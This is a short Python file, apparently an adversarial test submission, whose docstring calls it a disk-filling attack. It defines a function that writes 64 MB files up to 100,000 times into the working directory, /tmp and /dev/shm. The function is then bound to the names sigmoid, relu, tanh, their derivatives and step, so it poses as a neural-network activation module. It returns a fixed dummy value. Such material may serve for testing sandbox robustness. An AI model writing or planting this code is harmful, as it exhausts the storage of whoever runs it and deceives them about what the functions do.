"""Attack: write files until the disk is full, in the working directory and /tmp."""
import os


def _fill(z):
    chunk = b"x" * (1 << 20)
    for folder in (os.getcwd(), "/tmp", "/dev/shm"):
        for i in range(100_000):
            try:
                with open(os.path.join(folder, f"fill{i}"), "wb") as f:
                    for _ in range(64):
                        f.write(chunk)
            except OSError:
                break
    return z * 0 + 0.123


sigmoid = sigmoid_derivative = relu = relu_derivative = tanh = tanh_derivative = step = _fill
